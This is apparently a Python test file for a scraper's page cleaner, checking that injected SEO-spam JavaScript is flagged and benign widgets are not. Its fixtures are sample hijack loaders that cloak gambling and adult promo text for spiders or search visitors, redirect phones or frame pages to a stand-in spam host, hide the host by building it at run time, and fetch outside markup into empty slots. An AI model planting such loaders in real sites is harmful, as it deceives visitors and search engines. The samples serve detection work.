"""Scripts that gate on a browser feature the fake browser once lacked, or that cloak with text
instead of links (v5 misses 1.B1-B6, false flag FF1). Each loader below acts in a real browser for
some visitors; the page must be flagged, and a page whose scripts treat every visitor alike must not.
The code is written afresh in each miss's form, not copied from the spent pages."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.sandbox import run_scripts
from tests.clean.conftest import everything, kinds
from tests.clean.test_structural import BODY, URL, page

SPAM_HOST = "qx7-lucky.top"
PROMO = "更多精彩请访问乐盈娱乐官方网址注册即送"


def cleaned(code: str, body: str = BODY):
    return clean_page(page(head=f"<script>{code}</script>", body=body), url=URL)


def test_link_written_only_for_readers_in_chinas_time_zone():
    # the gate reads Intl's time zone and the browser's language; a spider in a data centre on UTC
    # gets the article, a reader in China a link above it
    code = ("try{var z=Intl.DateTimeFormat().resolvedOptions().timeZone,l=navigator.language;"
            "if(z.indexOf('Asia/')===0&&/^zh/i.test(l)){var c=document.querySelector('.content')||document.body;"
            f"c.insertAdjacentHTML('afterbegin','<div><a href=\"https://{SPAM_HOST}/\">{PROMO}</a></div>')}}}}catch(e){{}}")
    a = cleaned(code)
    assert a.hijacked and "js_cloak" in kinds(a)
    assert "乐盈娱乐" not in everything(a)


def test_bytes_decoded_with_textdecoder_for_search_visitors():
    data = ",".join(str(b) for b in PROMO.encode("utf-8"))
    code = ("if(/baidu|sogou|bing/.test(document.referrer)){var t=new TextDecoder().decode(new Uint8Array(["
            f"{data}]));var a=document.createElement('a');a.href='https://{SPAM_HOST}/';a.textContent=t;"
            "document.body.insertBefore(a,document.body.firstChild)}")
    a = cleaned(code)
    assert a.hijacked and "js_cloak" in kinds(a)
    assert "乐盈娱乐" not in everything(a)


def test_promo_sentence_appended_as_text_for_visitors_from_another_site():
    # no link at all: text that only visitors arriving from elsewhere read is cloaking too
    code = ("requestIdleCallback(function(){var r=document.referrer;if(!r||r.indexOf(location.hostname)>=0)return;"
            f"var ps=document.querySelectorAll('.content p');if(ps.length)ps[0].insertAdjacentText('beforeend','{PROMO}')}})")
    a = cleaned(code)
    assert a.hijacked and "js_cloak" in kinds(a)
    assert "乐盈娱乐" not in everything(a)


def test_touch_gate_tested_with_in_on_window_redirects_phones():
    code = ("window.addEventListener('load',function(){if(('ontouchstart' in window)&&screen.width<800)"
            f"{{setTimeout(function(){{location.replace('https://{SPAM_HOST}/m')}},900)}}}})")
    a = cleaned(code)
    assert a.hijacked and "js_redirect" in kinds(a)
    assert any(SPAM_HOST in f.evidence for f in a.findings if f.kind == "js_redirect")


def test_keyword_text_written_only_for_spiders_is_cloaking():
    code = ("if(navigator.webdriver||/spider|bot|crawl/i.test(navigator.userAgent)){"
            "document.write('<p>星河汇h8 星河汇h8官方 星河汇h8登录 夜场陪玩 同城约见</p>')}")
    a = cleaned(code)
    assert a.hijacked and "js_cloak" in kinds(a)


def test_a_feature_the_fake_browser_lacks_does_not_stop_the_loader_behind_it():
    # an API no stub was written for (a global, then a method of an element) comes before the gate
    # (the address is put together at run time: only running the code shows where it goes)
    code = ("var ch=new BroadcastChannel('s');ch.postMessage(1);document.body.requestFullscreen();"
            "var h=['top','lucky','qx7'].reverse().join('.');"
            "if(/baidu|sogou/.test(document.referrer)){location.href='https://'+h+'/go'}")
    a = cleaned(code)
    assert a.hijacked and "js_redirect" in kinds(a)
    assert any("qx7.lucky.top" in f.evidence for f in a.findings if f.kind == "js_redirect")


def test_full_page_offsite_frame_on_a_second_visit_is_a_redirect():
    code = ("var n=+(sessionStorage.getItem('v')||0)+1;sessionStorage.setItem('v',n);if(n>1){"
            f"var f=document.createElement('iframe');f.src='https://{SPAM_HOST}/m/';"
            "f.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999';"
            "document.body.appendChild(f)}")
    a = cleaned(code)
    assert a.hijacked and "js_redirect" in kinds(a)


# -- what must stay unflagged --------------------------------------------------------------------

def test_widgets_that_treat_every_reader_alike_stay_unflagged():
    # a date in the reader's locale, a notice for people that spiders are spared, a device hint:
    # they differ by visitor, but no spider or search visitor gets text the ordinary reader does not
    code = ("var d=new Intl.DateTimeFormat('zh-CN').format(new Date());"
            "document.getElementsByTagName('body')[0].insertAdjacentHTML('beforeend','<span>更新于 '+d+'</span>');"
            "if(!/bot|spider/i.test(navigator.userAgent)){var n=document.createElement('div');"
            "n.textContent='本网站使用Cookie以改善您的浏览体验，继续浏览即表示同意';document.body.appendChild(n)}"
            "if('ontouchstart' in window){document.body.insertAdjacentText('beforeend','左右滑动查看更多图片内容')}"
            "var s=new SomeVendorSdk({id:3});s.track('view')")
    a = cleaned(code)
    assert not a.hijacked, a.findings
    assert "城乡环境综合整治" in a.text


def test_contextual_ads_for_search_visitors_from_the_sites_own_vendor_account_stay_unflagged():
    # the site's account at an in-text ad network ("<site>.<vendor>") switched on for search traffic,
    # with the network's disclosure link in the page's own slot (v5 FF1)
    code = ("var pat=/google\\.(de|com)\\/(search|url)|baidu\\.com/;if(pat.test(document.referrer)){"
            "var s=document.createElement('script');s.setAttribute('src','https://www.qingshan.gov.cn.adtext-net.com/front.js?id=77');"
            "document.body.appendChild(s);var h=document.getElementById('adhook');"
            "if(h)h.innerHTML='| <a href=\"https://www.adtext-net.com/about\">广告说明</a>'}")
    a = cleaned(code, BODY + '<span id="adhook"></span>')
    assert not a.hijacked, a.findings


def test_a_guard_on_a_global_the_page_never_set_still_sees_it_unset():
    # stubs are given to names a script calls or reads from, not to names it only tests
    code = ("if(typeof __loaded==='undefined'){__loaded=1;"
            "if(/baidu/.test(document.referrer))document.title='x';}")
    run = run_scripts([(0, code)], URL, "", {"ids": {}, "tags": {"body": 1}})
    assert [e.value for e in run.effects["phone_search"] if e.kind == "title"] == ["x"]


def test_markup_fetched_from_another_site_into_empty_slots_is_an_injection():
    # the loader's own line-break placeholders (a page builder's) must not hide it either
    code = ("<!-- [pb_line_break_holder] -->fetch('https://links-shop.buzz/b/ta.js').then(function(r){return r.text()})"
            ".then(function(t){document.getElementById('slot9').innerHTML=t});<!-- [pb_line_break_holder] -->")
    a = clean_page(page(body=BODY + f'<div id="slot9"></div><script>{code}</script>'), url=URL)
    assert a.hijacked and "spam_script" in kinds(a)
    assert any("links-shop.buzz" in f.evidence for f in a.findings)


def test_a_widget_fetching_from_a_site_the_page_already_uses_stays_unflagged():
    code = ("fetch('https://weather.example-cdn.com/w/42.html').then(function(r){return r.text()})"
            ".then(function(t){document.getElementById('wx').innerHTML=t})")
    extra = '<div id="wx"></div><img src="https://weather.example-cdn.com/logo.png" alt="天气">'
    a = clean_page(page(body=BODY + extra + f"<script>{code}</script>"), url=URL)
    assert not a.hijacked, a.findings


def test_a_page_speaking_the_visitors_language_is_no_cloaking():
    # the spider runs with another language than a reader in China: text chosen by language alone
    # is the page's translation, not a face for spiders
    code = ("var zh=/^zh/i.test(navigator.language);document.getElementById('lang').innerHTML="
            "zh?'本页面另有英文版本可供阅读':'This page is also available in <b>English</b>'")
    a = clean_page(page(body=BODY + '<p id="lang"></p>' + f"<script>{code}</script>"), url=URL)
    assert not a.hijacked, a.findings


def test_a_search_only_loader_whose_host_names_a_portal_is_still_cloaking():
    # only the page's own site before the vendor's domain makes an account; a trusted portal's
    # name there is a disguise
    code = ("if(/baidu|sogou/.test(document.referrer)){var s=document.createElement('script');"
            "s.setAttribute('src','https://www.baidu.com.qx7-lucky.top/front.js');document.body.appendChild(s)}")
    a = cleaned(code)
    assert a.hijacked and "spam_script" in kinds(a)


def test_an_ad_card_written_for_people_and_not_for_crawlers_stays_unflagged():
    # v6 FF: an ad-recovery loader tells crawlers by their user agent and writes the same card of
    # advertiser links for every person, whatever the referrer or device: bot exclusion, not cloaking
    code = ("if(!/bot|spider|crawl/i.test(navigator.userAgent)){document.getElementById('adslot').innerHTML="
            "'<div class=\"card\"><a href=\"https://shop-one.example.net/p\">Sofa sale</a>"
            "<a href=\"https://shop-two.example.org/q\">Garden chairs</a></div>'}")
    a = clean_page(page(body=BODY + '<div id="adslot"></div>' + f"<script>{code}</script>"), url=URL)
    assert not a.hijacked, a.findings


def test_links_written_for_crawlers_only_are_still_cloaking():
    code = ("if(/bot|spider|crawl/i.test(navigator.userAgent)){document.getElementById('adslot').innerHTML="
            f"'<a href=\"https://{SPAM_HOST}/a\">{PROMO}</a><a href=\"https://{SPAM_HOST}/b\">{PROMO}</a>'}}")
    a = clean_page(page(body=BODY + '<div id="adslot"></div>' + f"<script>{code}</script>"), url=URL)
    assert a.hijacked and "乐盈娱乐" not in everything(a)
